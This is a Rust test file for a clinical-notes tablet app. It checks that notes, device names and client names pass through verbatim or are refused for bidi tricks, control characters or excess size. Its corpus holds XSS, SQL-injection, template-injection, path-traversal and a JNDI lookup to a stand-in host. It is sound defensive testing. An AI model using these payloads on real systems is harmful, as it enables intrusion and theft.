//! What people type: markup, direction marks, megabytes, nothing at all. It comes through as the text it is, or is
//! refused at the edge.

use baton_contract::ErrorCode;
use baton_domain::{ActionKind, text::Name};
use baton_tests::Scene;

use crate::common::{Kept, hits, refused};

/// Payloads that have hurt other programs. Each comes through as it is, or is refused; nothing in between.
const CORPUS: [&str; 60] = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "\"><b>bold</b>",
    "' onmouseover='alert(1)",
    "`${7*7}`",
    "{{7*7}}",
    "{@html '<b>x</b>'}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.test/a}",
    "#{7*7}",
    "%n%s%x%p",
    "&lt;b&gt;&amp;amp;&#x3C;",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "'; DROP TABLE observations; --",
    "\" OR \"\"=\"",
    "1' UNION SELECT sql FROM sqlite_master --",
    "PRAGMA key = 'x'",
    "\\'; ATTACH 'x' AS y; --",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "/dev/null",
    "CON",
    "~",
    "C:\\",
    "name\nsecond line",
    "tab\there",
    "null",
    "undefined",
    "NaN",
    "true",
    "-1",
    "1e309",
    "__proto__",
    "constructor",
    "toString",
    "{\"action\":\"sign_note\"}",
    "[]",
    "a\u{202E}gnp.exe",
    "\u{2066}isolated\u{2069}",
    "\u{200F}right\u{200E}left",
    "\u{FEFF}bom",
    "\u{0}zero",
    "\u{1B}[31mred\u{1B}[0m",
    "bell\u{7}",
    "back\u{8}space",
    "carriage\rreturn",
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}",
    "Z\u{351}\u{36B}\u{343}\u{36A}a\u{302}\u{36B}\u{315}l\u{316}g\u{301}o\u{323}",
    "Müller-Šťastný Ελένη 李小龍 محمد",
    "\u{E000}\u{FFFD}\u{10FFFF}",
];

/// Whether a text must be refused: it could turn the screen around or forge a line.
fn hostile(text: &str) -> bool {
    let turns = |c: char| matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{61C}' | '\u{FEFF}');
    text.chars().any(|c| turns(c) || (c.is_control() && c != '\n' && c != '\t'))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_note_comes_through_as_the_text_it_is_or_is_refused_at_the_edge() {
    let scene = Scene::set().await;
    let (tablet, session, _) = scene.at_work().await;
    let kept = Kept::of(&tablet);
    let mut version = 0;
    for payload in CORPUS {
        let written =
            tablet.core().note_write(&baton_tests::write_note(&session.chart, &session.session, payload, version));
        if hostile(payload) {
            refused(written, ErrorCode::TextUnusable);
        } else {
            let note = written.unwrap();
            assert_eq!(note.text, payload);
            version = note.version;
        }
    }
    let written = kept.still(&tablet).into_iter().filter(|k| *k == ActionKind::WriteNote).count();
    assert_eq!(written, CORPUS.iter().filter(|text| !hostile(text)).count(), "what is refused is not queued");
    assert_eq!(hits(&tablet, &session), 3);
    tablet.core().deliver_all().await.unwrap();
    assert_eq!(tablet.core().sync_view().unwrap().attention, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_device_name_comes_through_as_the_text_it_is_or_is_refused_at_the_edge() {
    let scene = Scene::set().await;
    let blank = scene.blank_tablet("blank");
    let code = scene.enrolment_code(scene.sunrise(), scene.network.addr()).await.to_text();
    for payload in CORPUS.into_iter().filter(|text| hostile(text)) {
        refused(blank.core().device_enrol(&code, payload).await, ErrorCode::TextUnusable);
    }
    for empty in ["", " ", "\n\t ", "\u{3000}"] {
        refused(blank.core().device_enrol(&code, empty).await, ErrorCode::TextUnusable);
    }
    refused(blank.core().device_enrol(&code, &"x".repeat(121)).await, ErrorCode::TooLarge);
    refused(blank.core().device_enrol(&code, &"x".repeat(1_000_000)).await, ErrorCode::TooLarge);
    let friendly: Vec<&str> = CORPUS.into_iter().filter(|text| !hostile(text)).collect();
    for (number, payload) in friendly.iter().enumerate().filter(|(number, _)| number % 6 == 0) {
        let tablet = scene.blank_tablet(&format!("tablet-{number}"));
        let code = scene.enrolment_code(scene.sunrise(), scene.network.addr()).await.to_text();
        let shown = tablet.core().device_enrol(&code, payload).await.unwrap();
        assert_eq!(shown.name, *payload);
    }
    blank.core().device_enrol(&code, "Room 2").await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_clients_name_full_of_markup_comes_through_as_text_and_one_that_turns_the_screen_never_exists() {
    let scene = Scene::set().await;
    for payload in CORPUS.into_iter().filter(|text| hostile(text)) {
        assert!(Name::new(payload).is_err(), "{payload:?}");
    }
    let friendly: Vec<&str> = CORPUS.into_iter().filter(|text| !hostile(text)).collect();
    for payload in &friendly {
        let chart = scene.chart(payload).await;
        scene.assign(&chart, &scene.ana).await;
    }
    let tablet = scene.tablet("tablet").await;
    scene.sign_in(&tablet, &scene.ana).await;
    let names: Vec<String> = tablet.core().today_view().unwrap().clients.into_iter().map(|c| c.name).collect();
    for payload in &friendly {
        assert!(names.iter().any(|name| name == payload), "{payload:?}");
    }
    for card in tablet.core().today_view().unwrap().clients.iter().take(5) {
        assert_eq!(tablet.core().chart_open(&card.chart).await.unwrap().name, card.name);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_name_that_turns_the_screen_is_refused_when_the_platform_itself_sends_it() {
    let scene = Scene::set().await;
    let tablet = scene.tablet("tablet").await;
    let kept = Kept::of(&tablet);
    let rows = scene.rows().await;
    let rename = "UPDATE people SET name = $2 WHERE id = $1";
    rows.run(rename, &[&scene.ana.user.0, &"Ana\u{202E}ziuR"]).await;
    let code = scene.code(&scene.ana).await;
    let result = tablet.core().people_sign_in(&scene.ana.login, scene.ana.password(), Some(code)).await;
    let error = result.map(|_| ()).unwrap_err();
    assert!([ErrorCode::PlatformProtocol, ErrorCode::PlatformFault].contains(&error.code), "{:?}", error.code);
    kept.still(&tablet);
    rows.run(rename, &[&scene.ana.user.0, &"Ana Ruiz"]).await;
    scene.sign_in(&tablet, &scene.ana).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_note_of_a_megabyte_or_of_combining_marks_is_refused_at_the_door_and_never_queued() {
    let scene = Scene::set().await;
    let (tablet, session, _) = scene.at_work().await;
    let kept = Kept::of(&tablet);
    let waiting = tablet.core().sync_view().unwrap().waiting;
    let marks = "a".to_owned() + &"\u{36A}".repeat(500_000);
    let long = ["x".repeat(1_000_000), "x".repeat(12_001), marks, "\u{1F600}".repeat(12_001), "\"".repeat(12_001)];
    for text in &long {
        let result = tablet.core().note_write(&baton_tests::write_note(&session.chart, &session.session, text, 0));
        refused(result, ErrorCode::TooLarge);
    }
    assert_eq!(tablet.core().sync_view().unwrap().waiting, waiting, "nothing was queued");
    assert!(kept.still(&tablet).is_empty());
    assert_eq!(hits(&tablet, &session), 3);
    // The longest that is allowed, of the largest characters, passes the door, the wire and the platform.
    let mut version = 0;
    for text in ["\u{1F600}".repeat(12_000), "\"".repeat(12_000), "a".to_owned() + &"\u{36A}".repeat(11_999)] {
        let note = tablet
            .core()
            .note_write(&baton_tests::write_note(&session.chart, &session.session, &text, version))
            .unwrap();
        assert_eq!(note.text, text);
        version = note.version;
    }
    tablet.core().deliver_all().await.unwrap();
    let view = tablet.core().sync_view().unwrap();
    assert_eq!((view.waiting, view.attention), (0, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_entry_over_64_kib_is_refused_at_the_door_and_never_queued() {
    let scene = Scene::set().await;
    let tablet = scene.tablet("tablet").await;
    // Long names and many targets: the frozen list of a session is the largest thing an entry holds.
    let wide: Vec<baton_domain::measure::Target> = (0..190_u128)
        .map(|number| {
            let name = Name::new(&"\u{1F600}".repeat(120)).unwrap();
            let mut target = scene.chart.targets[0].clone();
            target.id = baton_domain::TargetId(uuid::Uuid::from_u128(1_000 + number));
            (target.name, target.program_name) = (name.clone(), name);
            target
        })
        .collect();
    let (clinic, tenant, chart) = (scene.platform().clinic().unwrap(), scene.sunrise().id, scene.chart.chart);
    let rows: Vec<_> = wide.into_iter().map(baton_domain::chart::ChartRow::Target).collect();
    let part = baton_domain::chart::Compartment::Clinical;
    scene.admin(async move { clinic.insert_rows(tenant, chart, part, &rows).await.unwrap() }).await;
    scene.sign_in(&tablet, &scene.ana).await;
    let chart = scene.chart.chart.to_string();
    tablet.core().chart_open(&chart).await.unwrap();
    let kept = Kept::of(&tablet);
    refused(tablet.core().session_start(&chart), ErrorCode::TooLarge);
    assert_eq!(kept.still(&tablet), [ActionKind::Look], "it was looked at, and nothing was started");
    assert!(tablet.core().me_view().unwrap().running.is_none());
    assert!(tablet.core().chart_open(&chart).await.unwrap().sessions.is_empty());
    tablet.core().deliver_all().await.unwrap();
    assert_eq!(tablet.core().sync_view().unwrap().waiting, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_note_with_only_white_space_is_refused_and_one_with_words_is_taken() {
    let scene = Scene::set().await;
    let (tablet, session, _) = scene.at_work().await;
    let kept = Kept::of(&tablet);
    for empty in ["", " ", "\n", "\t\n  ", "\u{A0}", "\u{2003}\u{3000}", "\u{2028}"] {
        let result = tablet.core().note_write(&baton_tests::write_note(&session.chart, &session.session, empty, 0));
        refused(result, ErrorCode::TextUnusable);
    }
    assert!(kept.still(&tablet).is_empty());
    let note =
        tablet.core().note_write(&baton_tests::write_note(&session.chart, &session.session, "  Calm.\n", 0)).unwrap();
    assert_eq!(note.text, "Calm.");
    assert_eq!(hits(&tablet, &session), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_note_that_changed_in_between_is_refused_and_both_are_where_they_were() {
    let scene = Scene::set().await;
    let (tablet, session, _) = scene.at_work().await;
    let write = |text: &str, base| {
        tablet.core().note_write(&baton_tests::write_note(&session.chart, &session.session, text, base))
    };
    assert_eq!(write("One.", 0).unwrap().version, 1);
    for base in [0, 2, u32::MAX] {
        refused(write("Two.", base), ErrorCode::ActionRefused);
    }
    let seen = tablet.core().session_view(&session.chart, &session.session).unwrap();
    assert_eq!((seen.notes[0].text.as_str(), seen.notes[0].version), ("One.", 1));
    assert_eq!(write("Two.", 1).unwrap().version, 2);
}
